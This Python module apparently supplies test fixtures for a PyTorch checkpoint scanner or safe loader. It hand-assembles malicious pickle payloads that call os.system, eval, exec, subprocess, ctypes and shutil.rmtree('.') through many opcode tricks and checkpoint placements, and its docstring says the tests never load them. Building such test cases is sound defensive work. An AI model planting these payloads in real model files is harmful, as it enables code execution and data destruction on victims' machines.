"""Pickles that run code when anything but a careful reader loads them, put together opcode by opcode.

Nothing here is unpickled by the tests; the globals are names and need not exist.
"""

import io
import pickle
import struct
import sys
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path

TORCH_MAGIC = 0x1950A86A20F9469CFC6C
TORCH_PROTOCOL = 1001


def fragment(value: object) -> bytes:
    """Returns the opcodes that push a plain value."""
    return pickle.dumps(value, 2)[2:-1]


def name(module: str, attribute: str) -> bytes:
    """Returns the opcode that pushes a global."""
    return f"c{module}\n{attribute}\n".encode()


def gadgets(proof: Path) -> dict[str, tuple[str, str, tuple[object, ...]]]:
    """Returns module, name and arguments of calls that would leave a proof, or do other harm."""
    touch = f"open({str(proof)!r}, 'w')"
    shell = f"touch '{proof}'"
    inner = b"\x80\x02" + name("os", "mkdir") + fragment((str(proof),)) + b"R."
    return {
        "os.system": ("os", "system", (shell,)),
        "posix.system": ("posix", "system", (shell,)),
        "os.mkdir": ("os", "mkdir", (str(proof),)),
        "os.popen": ("os", "popen", (shell,)),
        "os.execv": ("os", "execv", ("/usr/bin/touch", ["touch", str(proof)])),
        "subprocess.Popen": ("subprocess", "Popen", (["touch", str(proof)],)),
        "subprocess.check_output": ("subprocess", "check_output", (["touch", str(proof)],)),
        "builtins.eval": ("builtins", "eval", (touch,)),
        "builtins.exec": ("builtins", "exec", (touch,)),
        "builtins.open": ("builtins", "open", (str(proof), "w")),
        "builtins.__import__": ("builtins", "__import__", ("planted",)),
        "builtins.getattr": ("builtins", "getattr", (str(proof), "upper")),
        "python2.eval": ("__builtin__", "eval", (touch,)),
        "importlib.import_module": ("importlib", "import_module", ("planted",)),
        "runpy.run_path": ("runpy", "run_path", ("planted.py",)),
        "runpy.run_module": ("runpy", "run_module", ("planted",)),
        "planted.build": ("planted", "build", ()),
        "pty.spawn": ("pty", "spawn", ([f"touch {proof}"],)),
        "webbrowser.open": ("webbrowser", "open", ("http://127.0.0.1:9/",)),
        "socket.create_connection": ("socket", "create_connection", (("127.0.0.1", 9),)),
        "shutil.rmtree": ("shutil", "rmtree", (".",)),
        "operator.attrgetter": ("operator", "attrgetter", ("system",)),
        "functools.partial": ("functools", "partial", (touch,)),
        "codecs.decode": ("codecs", "decode", (b"cf", "rot13")),
        "pickle.loads": ("pickle", "loads", (inner,)),
        "torch.load": ("torch", "load", ("weights.pth",)),
        "torch.storage._load_from_bytes": ("torch.storage", "_load_from_bytes", (inner,)),
        "torch.hub.load": ("torch.hub", "load", ("planted", "planted")),
        "torch.ops.load_library": ("torch._ops", "ops.load_library", ("planted.so",)),
        "torch.classes.load_library": ("torch._classes", "classes.load_library", ("planted.so",)),
        "torch.nn.Linear": ("torch.nn.modules.linear", "Linear", (2, 2)),
        "torch.fx.GraphModule": ("torch.fx.graph_module", "reduce_graph_module", ({"_code": touch}, "")),
        "numpy.load": ("numpy", "load", ("planted.npy",)),
        "ctypes.CDLL": ("ctypes", "CDLL", ("planted.so",)),
        "multiprocessing.Process": ("multiprocessing.context", "Process", ()),
        "argparse.FileType": ("argparse", "FileType", ("w",)),
    }


def _state(call: bytes) -> bytes:
    """Returns the opcodes that give an object a state."""
    return name("argparse", "Namespace") + fragment(()) + b"\x81" + call + b"b"


# The opcodes that have a name called with arguments, and those that lead an unpickler to a call by another way.
FORMS: dict[str, Callable[[str, str, tuple[object, ...]], bytes]] = {
    "REDUCE": lambda module, attribute, given: name(module, attribute) + fragment(given) + b"R",
    "NEWOBJ": lambda module, attribute, given: name(module, attribute) + fragment(given) + b"\x81",
    "NEWOBJ_EX": lambda module, attribute, given: name(module, attribute) + fragment(given) + fragment({}) + b"\x92",
    "OBJ": lambda module, attribute, given: b"(" + name(module, attribute) + b"".join(map(fragment, given)) + b"o",
    "INST": lambda module, attribute, given: (
        b"(" + b"".join(map(fragment, given)) + f"i{module}\n{attribute}\n".encode()
    ),
    "STACK_GLOBAL": lambda module, attribute, given: (
        fragment(module) + fragment(attribute) + b"\x93" + fragment(given) + b"R"
    ),
    "a name from the memo": lambda module, attribute, given: (
        name(module, attribute) + b"r\x00\x01\x00\x000" + b"j\x00\x01\x00\x00" + fragment(given) + b"R"
    ),
    "BUILD of a name": lambda module, attribute, given: name(module, attribute) + fragment({"a": given}) + b"b",
    "BUILD with a call": lambda module, attribute, given: _state(name(module, attribute) + fragment(given) + b"R"),
    "BUILD with slots": lambda module, attribute, given: _state(
        fragment({}) + name(module, attribute) + fragment(given) + b"R" + b"\x86"
    ),
    "APPENDS to a call": lambda module, attribute, given: (
        name(module, attribute) + fragment(given) + b"R(" + fragment(1) + b"e"
    ),
    "SETITEMS of a call": lambda module, attribute, given: (
        name(module, attribute) + fragment(given) + b"R(" + fragment("a") + fragment(1) + b"u"
    ),
    "a factory of defaults": lambda module, attribute, given: (
        name("collections", "defaultdict") + name(module, attribute) + fragment(given) + b"\x86R"
    ),
    "a subclass of tensors": lambda module, attribute, given: (
        name("torch._tensor", "_rebuild_from_type_v2")
        + b"("
        + name(module, attribute)
        + name("torch", "Tensor")
        + fragment(given)
        + fragment({})
        + b"tR"
    ),
    "a storage's type": lambda module, attribute, given: (
        b"(" + fragment("storage") + name(module, attribute) + b"".join(map(fragment, ("0", "cpu", 4))) + b"tQ"
    ),
    "a persistent id": lambda module, attribute, given: name(module, attribute) + fragment(given) + b"RQ",
}
# Where in a checkpoint that value stands.
SPOTS: dict[str, Callable[[bytes], bytes]] = {
    "an entry": lambda value: b"\x80\x02}" + fragment("model") + value + b"s.",
    "a weight": lambda value: b"\x80\x02}" + fragment("0.weight") + value + b"s.",
    "the top": lambda value: b"\x80\x02" + value + b".",
    "a key": lambda value: b"\x80\x02}" + value + fragment(1) + b"s.",
    "thrown away": lambda value: b"\x80\x02" + value + b"0}.",
}


def vectors(proof: Path) -> dict[str, bytes]:
    """Returns other ways to reach a global, and other places for a call; each pushes one value."""
    system, arguments = name("os", "system"), fragment((f"touch '{proof}'",))
    call = system + arguments + b"R"
    ordered = name("collections", "OrderedDict") + fragment(()) + b"R"
    namespace = name("argparse", "Namespace") + fragment(()) + b"\x81"
    text = fragment("touch")
    return {
        "STACK_GLOBAL, dotted": fragment("torch") + fragment("serialization.os.system") + b"\x93" + arguments + b"R",
        "STACK_GLOBAL of numbers": fragment(1) + fragment(2) + b"\x93" + arguments + b"R",
        "GLOBAL, dotted": name("torch", "serialization.os.system") + arguments + b"R",
        "GLOBAL, of a module": name("torch.serialization", "os") + b"0" + call,
        "EXT1": b"\x82\x01" + arguments + b"R",
        "EXT2": b"\x83\x01\x00" + arguments + b"R",
        "EXT4": b"\x84\xff\xff\xff\x7f" + arguments + b"R",
        "BUILD of an ordered dictionary": ordered + call + b"b",
        "BUILD of __reduce__": ordered + fragment({"__reduce__": None}) + call + b"b",
        "BUILD of a namespace": namespace + b"}" + text + call + b"sb",
        "BUILD of a namespace's class": namespace + b"}" + fragment("__class__") + call + b"sb",
        "BUILD of a dictionary's setstate": namespace + b"}" + fragment("__setstate__") + system + b"sb" + call + b"b",
        "a call in a list": b"](" + call + b"e",
        "a call in a tuple": call + b"\x85",
        "a call in a set": b"\x8f(" + call + b"\x90",
        "a call in an ordered dictionary": ordered + text + call + b"s",
        "a call of a call": name("builtins", "getattr") + call + text + b"\x86R" + fragment(()) + b"R",
        "BINPERSID of another kind": fragment(("module", "planted", "planted.py", "")) + b"Q",
        "BINPERSID of a text": fragment("storage") + b"Q",
        "BINPERSID of nothing": b")Q",
        "BINPERSID of a number": fragment(("storage", 3, "0", "cpu", 4)) + b"Q",
        "BINPERSID of another device": (
            b"("
            + fragment("storage")
            + name("torch", "FloatStorage")
            + b"".join(map(fragment, ("0", "planted:0", 4)))
            + b"tQ"
        ),
        "PERSID": b"Pstorage\n",
        "NEXT_BUFFER": b"\x97",
        "READONLY_BUFFER": fragment(b"a") + b"\x98",
    }


def zipped(pickled: bytes, extra: Mapping[str, bytes] | None = None, folder: str = "archive") -> bytes:
    """Returns PyTorch's zip format around a pickle."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        entries = {"data.pkl": pickled, "byteorder": sys.byteorder.encode(), "version": b"3\n", **(extra or {})}
        for entry, content in entries.items():
            archive.writestr(f"{folder}/{entry}", content)
    return buffer.getvalue()


def old_format(pickled: bytes, keys: object = (), storages: bytes = b"") -> bytes:
    """Returns PyTorch's format before version 1.6: pickles one after another, then the storages."""
    system = {"protocol_version": TORCH_PROTOCOL, "little_endian": True, "type_sizes": {"short": 2, "int": 4}}
    head = b"".join(pickle.dumps(value, 2) for value in (TORCH_MAGIC, TORCH_PROTOCOL, system))
    return head + pickled + pickle.dumps(list(keys) if isinstance(keys, tuple) else keys, 2) + storages


def whole(pushed: bytes) -> bytes:
    """Returns a pickle of a checkpoint that holds the pushed value beside weights."""
    return b"\x80\x02}" + fragment("model") + pushed + b"s."


def storage_of(key: str, count: int, kind: str = "FloatStorage", *, viewed: bool = False) -> bytes:
    """Returns the opcodes that push a storage of the file; ``viewed`` as the old format has it."""
    parts = fragment("storage") + name("torch", kind) + fragment(key) + fragment("cpu") + fragment(count)
    parts += b"N" if viewed else b""
    return b"(" + parts + b"tQ"


def tensor(
    size: tuple[object, ...] = (4,),
    stride: tuple[int, ...] = (1,),
    *,
    count: int = 4,
    offset: int = 0,
    key: str = "0",
    kind: str = "FloatStorage",
    viewed: bool = False,
) -> bytes:
    """Returns the opcodes that push a tensor with sizes of our choice on a storage of so many values."""
    hooks = name("collections", "OrderedDict") + fragment(()) + b"R"
    arguments = (
        storage_of(key, count, kind, viewed=viewed)
        + fragment(offset)
        + fragment(size)
        + fragment(stride)
        + b"\x89"
        + hooks
    )
    return name("torch._utils", "_rebuild_tensor_v2") + b"(" + arguments + b"tR"


def weights(pushed: bytes, entry: str = "0.weight") -> bytes:
    """Returns a pickle whose one weight is the pushed value."""
    return b"\x80\x02}" + fragment(entry) + pushed + b"s."


def floats(*values: float) -> bytes:
    return struct.pack(f"<{len(values)}f", *values)
